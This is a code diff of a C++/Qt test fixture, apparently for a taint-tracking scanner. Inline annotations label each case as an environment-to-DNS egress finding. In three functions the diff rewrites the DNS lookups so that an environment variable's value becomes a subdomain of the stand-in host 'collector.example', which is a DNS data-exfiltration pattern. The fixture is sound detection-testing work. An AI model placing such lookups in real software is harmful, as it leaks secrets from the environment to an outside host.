@@ -152,15 +152,15 @@ void web_socket_constants(QWebSocket *w) {
 }
 
 void name() {
-    QHostInfo::lookupHost(getenv("T"), nullptr); //~ source(ENVIRONMENT) f24, sink(egress.dns) f24, finding(traced) f24, capability(DNS)
+    QHostInfo::lookupHost(std::string(getenv("T")) + ".collector.example", nullptr); //~ source(ENVIRONMENT) f24, sink(egress.dns) f24, finding(traced) f24, capability(DNS)
 }
 
 void name_asked() {
-    QDnsLookup d(QDnsLookup::TXT, getenv("T")); //~ source(ENVIRONMENT) f25, sink(egress.dns) f25, finding(traced) f25, capability(DNS)
+    QDnsLookup d(QDnsLookup::TXT, std::string(getenv("T")) + ".collector.example"); //~ source(ENVIRONMENT) f25, sink(egress.dns) f25, finding(traced) f25, capability(DNS)
 }
 
 void name_set(QDnsLookup &d) {
-    d.setName(getenv("T")); //~ source(ENVIRONMENT) f26, sink(egress.dns) f26, finding(traced) f26, capability(DNS)
+    d.setName(std::string(getenv("T")) + ".collector.example"); //~ source(ENVIRONMENT) f26, sink(egress.dns) f26, finding(traced) f26, capability(DNS)
 }
 
 void name_constants(QDnsLookup &given) {
